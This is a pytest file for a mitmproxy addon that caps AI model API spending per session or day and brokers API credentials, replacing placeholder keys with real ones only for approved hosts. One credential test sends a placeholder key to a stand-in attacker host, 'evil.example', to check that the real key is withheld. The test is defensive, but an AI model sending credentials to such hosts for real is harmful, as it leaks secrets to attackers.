"""Budgets and brokered credentials in the hooks, in-process (`taddons`/`tflow`, recorder on a thread).

What only real mitmdump and the real SDKs can show (the SDKs raising without a retry, the upstream
receiving the real key, two sessions sharing a day budget) is in tests/e2e/test_guardrails.py.
"""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from mitmproxy import http
from mitmproxy.test import taddons, tflow, tutils

from addons.proxy.capture import Capsem
from addons.recorder.thread import RecorderThread
from tests.addons.proxy.conftest import Chain, started
from tests.addons.proxy.test_capture import FIXTURES, model_flow
from tests.conftest import only_session, rows

WIRE = (FIXTURES / "anthropic" / "stream_thinking_tools.sse").read_bytes()
CALL_COST = 0.0053664  # the fixture's usage with claude-sonnet-4-5's price
REAL_KEY = "sk-ant-api03-HOOKS-real-key-0000000000000000"


def addon_with(home, config: str, recorder=RecorderThread) -> Capsem:
    home.mkdir(parents=True, exist_ok=True)
    (home / "config.yaml").write_text(config)
    return Capsem(recorder=recorder)


@contextmanager
def running(home, config: str) -> Iterator[Capsem]:
    """An addon configured by `config` (as $CAPSEM_HOME/config.yaml) with its session started."""
    with started(addon_with(home, config)) as addon:
        yield addon


def call(addon: Capsem, model: str = "claude-sonnet-4-5", *, answer: bool = True) -> http.HTTPFlow:
    """A model call through the hooks as mitmproxy runs them (awaiting `request` when it waits)."""
    flow = model_flow(body={"model": model, "max_tokens": 100, "stream": True,
                            "messages": [{"role": "user", "content": "hi"}]})  # fmt: skip
    flow.request.timestamp_start = time.time()  # today: spend rows are per UTC day
    response, flow.response = flow.response, None
    addon.requestheaders(flow)
    waiting = addon.request(flow)
    if waiting is not None:
        asyncio.run(waiting)
    if flow.response is not None:  # answered by capsem
        addon.response(flow)
        return flow
    if answer:
        flow.response = response
        addon.responseheaders(flow)
        for i in range(0, len(WIRE), 4096):
            flow.response.stream(WIRE[i : i + 4096])
        flow.response.stream(b"")
        addon.response(flow)
    return flow


def test_a_session_budget_warns_then_refuses_in_the_providers_shape(capsem_home):
    with running(capsem_home, "budgets:\n  run: {scope: session, limit_usd: 0.01, warn_at: 0.5}\n") as addon:
        first, second, third = call(addon), call(addon), call(addon)  # spend: 0, then 0.0054, then 0.0107
        addon.done()
    assert first.response.status_code == second.response.status_code == 200
    assert third.response.status_code == 402 and third.response.headers["x-should-retry"] == "false"
    error = json.loads(third.response.content)
    message = ("capsem budget 'run' is spent: $0.0107 used in this session of its $0.0100 limit per session; this "
               "call was not sent to the provider. Raise budgets.run.limit_usd in the capsem config, or start a new "
               "session")  # fmt: skip
    assert error == {"type": "error", "error": {"type": "billing_error", "message": message}}
    db = only_session(capsem_home)
    nets = rows(db, "SELECT decision, matched_rule, status_code FROM net_events ORDER BY id")
    assert nets == [
        {"decision": "allowed", "matched_rule": None, "status_code": 200},
        {"decision": "warned", "matched_rule": "budget:run", "status_code": 200},
        {"decision": "denied", "matched_rule": "budget:run", "status_code": 402},
    ]
    costs = rows(db, "SELECT estimated_cost_usd FROM model_calls")
    assert [round(c["estimated_cost_usd"], 7) for c in costs] == [
        CALL_COST,
        CALL_COST,
    ]  # the refused one: no call
    (ledger,) = rows(capsem_home / "main.db", "SELECT call_count, estimated_cost FROM spend")
    assert ledger["call_count"] == 2 and round(ledger["estimated_cost"], 7) == round(2 * CALL_COST, 7)


def test_the_next_call_waits_for_the_cost_of_the_one_that_just_ended(capsem_home):
    """A tool loop sends its next call as soon as the answer is in: the check waits (without
    blocking mitmproxy) until the recorder has counted that answer's cost."""
    with running(capsem_home, "budgets:\n  run: {scope: session, limit_usd: 0.005}\n") as addon:
        call(addon)
        flow = model_flow()
        flow.response = None
        addon.requestheaders(flow)
        waiting = addon.request(flow)
        assert asyncio.iscoroutine(waiting)  # mitmproxy awaits what a hook returns
        asyncio.run(waiting)
        assert flow.response is not None and flow.response.status_code == 402
        addon.response(flow)
        addon.done()


class _MinuteRounds(RecorderThread):
    """Rounds a minute apart, each waiting out its pause as the sender thread's do (the thread's own
    rounds skip it when messages already wait: the ended call could then be counted at once)."""

    def _batches(self) -> list:
        if self.outbox.waiting or self.outbox.wake.wait(0.25):
            self.outbox.wake.clear()
            self.outbox.pause(60.0)
        return self.outbox.take()


def test_the_wait_sends_the_ended_call_to_the_recorder_at_once(capsem_home):
    """The ended call waits in the outbox for the recorder's next round; the check does not wait
    for that round (a minute here), it sends what waits at once (`Outbox.expedite`)."""
    slow = addon_with(capsem_home, "budgets:\n  run: {scope: session, limit_usd: 0.005}\n", _MinuteRounds)
    with started(slow) as addon:
        call(addon)
        flow = model_flow()
        flow.response = None
        addon.requestheaders(flow)
        asyncio.run(addon.request(flow))
        assert flow.response is not None and flow.response.status_code == 402
        assert b"$0.0054 used in this session" in flow.response.content  # counted, not assumed
        addon.response(flow)
        addon.done()


def test_a_model_glob_reads_the_model_from_the_body_and_other_models_go_through(capsem_home):
    addon = addon_with(
        capsem_home, "budgets:\n  no-opus: {scope: day, limit_usd: 0, model: 'claude-opus-*'}\n"
    )
    with taddons.context(addon) as tctx:
        tctx.configure(addon)
        addon.running()
        sonnet, opus = call(Chain(addon)), call(Chain(addon), "claude-opus-4-1")
        addon.done()
    assert sonnet.response.status_code == 200 and opus.response.status_code == 402
    assert "no-opus" in json.loads(opus.response.content)["error"]["message"]


def test_a_policy_warning_and_a_budget_warning_are_both_recorded(capsem_home):
    config = ("policy:\n  rules: [{name: watch, action: warn, host: api.anthropic.com}]\n"
              "budgets:\n  day: {scope: session, limit_usd: 1, warn_at: 0.000001}\n")  # fmt: skip
    with running(capsem_home, config) as addon:
        call(addon)
        call(addon)
        addon.done()
    nets = rows(only_session(capsem_home), "SELECT decision, matched_rule FROM net_events ORDER BY id")
    assert nets == [{"decision": "warned", "matched_rule": "watch"},
                    {"decision": "warned", "matched_rule": "watch, budget:day"}]  # fmt: skip


def test_a_streamed_request_body_is_refused_on_its_headers(capsem_home):
    with running(capsem_home, "budgets:\n  none: {scope: session, limit_usd: 0}\n") as addon:
        flow = model_flow()
        flow.response = None
        flow.request.stream = True  # stream_large_bodies: the body goes up as it comes
        addon.requestheaders(flow)
        assert flow.response is None and flow.error is not None  # killed: nothing goes upstream
        addon.error(flow)
        addon.done()
    (net,) = rows(only_session(capsem_home), "SELECT decision, matched_rule, error FROM net_events")
    assert net == {"decision": "denied", "matched_rule": "budget:none",
                   "error": "denied by capsem budget 'none': connection closed"}  # fmt: skip


def test_calls_that_are_not_model_calls_are_never_checked(capsem_home):
    with running(capsem_home, "budgets:\n  none: {scope: session, limit_usd: 0}\n") as addon:
        flow = tflow.tflow(req=tutils.treq(host="pypi.org", path=b"/simple/"), resp=False)
        addon.requestheaders(flow)
        assert addon.request(flow) is None and flow.response is None
        addon.done()


CREDENTIALS = """credentials:
  anthropic: {host: api.anthropic.com, header: x-api-key, env: TEST_ANTHROPIC_REAL}
  gemini: {host: generativelanguage.googleapis.com, query: key, env: TEST_GEMINI_REAL}
"""


@pytest.fixture
def broker(capsem_home, monkeypatch):
    monkeypatch.setenv("TEST_ANTHROPIC_REAL", REAL_KEY)
    monkeypatch.setenv("TEST_GEMINI_REAL", "AIza-real-gemini-key/0000000000000")
    with running(capsem_home, CREDENTIALS) as addon:
        yield addon


def request(
    addon: Capsem, host: str, path: str = "/v1/messages", headers: dict | None = None, answer: bytes = b"{}"
) -> http.HTTPFlow:
    req = tutils.treq(host=host, port=443, scheme="https", method=b"POST", path=path.encode(), content=b"{}",
                      headers=http.Headers(content_type="application/json", **(headers or {})))  # fmt: skip
    flow = tflow.tflow(req=req, resp=False)
    addon.requestheaders(flow)
    addon.request(flow)
    flow.response = tutils.tresp(content=answer)
    addon.response(flow)
    return flow


def test_the_real_key_goes_upstream_and_only_the_placeholder_is_recorded(broker, capsem_home):
    sent = request(broker, "api.anthropic.com", headers={"x_api_key": "capsem-placeholder-anthropic"})
    echoed = (
        b'{"error": {"message": "API key AIza-real-gemini-key/0000000000000 not valid"}}'  # no known shape
    )
    keyed = request(broker, "generativelanguage.googleapis.com",
                    "/v1beta/models/gemini-2.5-flash:generateContent?alt=sse&key=capsem-placeholder-gemini",
                    answer=echoed)  # fmt: skip
    stolen = request(broker, "evil.example", headers={"x_api_key": "capsem-placeholder-anthropic"})
    broker.done()
    assert sent.request.headers["x-api-key"] == REAL_KEY
    assert keyed.request.path.endswith("?alt=sse&key=AIza-real-gemini-key%2F0000000000000")
    assert stolen.request.headers["x-api-key"] == "capsem-placeholder-anthropic"  # never replaced
    db = only_session(capsem_home)
    events = rows(db, "SELECT credential, host, port, location, outcome, reason, flow_id, net_event_id "
                      "FROM substitution_events ORDER BY id")  # fmt: skip
    nets = {n["flow_id"]: n["id"] for n in rows(db, "SELECT id, flow_id FROM net_events")}
    assert events == [
        {"credential": "anthropic", "host": "api.anthropic.com", "port": 443, "location": "header x-api-key",
         "outcome": "substituted", "reason": None, "flow_id": sent.id, "net_event_id": nets[sent.id]},
        {"credential": "gemini", "host": "generativelanguage.googleapis.com", "port": 443, "location": "query key",
         "outcome": "substituted", "reason": None, "flow_id": keyed.id, "net_event_id": nets[keyed.id]},
        {"credential": "anthropic", "host": "evil.example", "port": 443, "location": "header x-api-key",
         "outcome": "refused", "reason": "evil.example is not a host of this credential (api.anthropic.com)",
         "flow_id": stolen.id, "net_event_id": nets[stolen.id]},
    ]  # fmt: skip
    (query,) = rows(db, "SELECT query FROM net_events WHERE domain LIKE 'generative%'")
    assert query["query"].startswith("alt=sse&key=hash:")  # as the agent sent it: the placeholder, hashed
    (preview,) = rows(db, "SELECT response_body_preview FROM net_events WHERE domain LIKE 'generative%'")
    assert "API key [redacted hash:" in preview["response_body_preview"]  # the scrubber knew the real value
    for path in capsem_home.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert REAL_KEY.encode() not in data and b"AIza-real-gemini-key" not in data, path


def test_a_missing_source_stops_the_addon_at_start_with_a_line_naming_the_entry(
    capsem_home, caplog, monkeypatch
):
    monkeypatch.delenv("TEST_ANTHROPIC_REAL", raising=False)
    addon = addon_with(capsem_home, CREDENTIALS)
    with taddons.context(addon) as tctx:
        tctx.configure(addon)
    assert f"capsem: {capsem_home / 'config.yaml'}: credentials.anthropic.env names TEST_ANTHROPIC_REAL, which is " \
           "not set (or empty) in capsem's environment" in caplog.text  # fmt: skip
    assert [r.levelname for r in caplog.records if "credentials.anthropic" in r.getMessage()] == ["ERROR"]
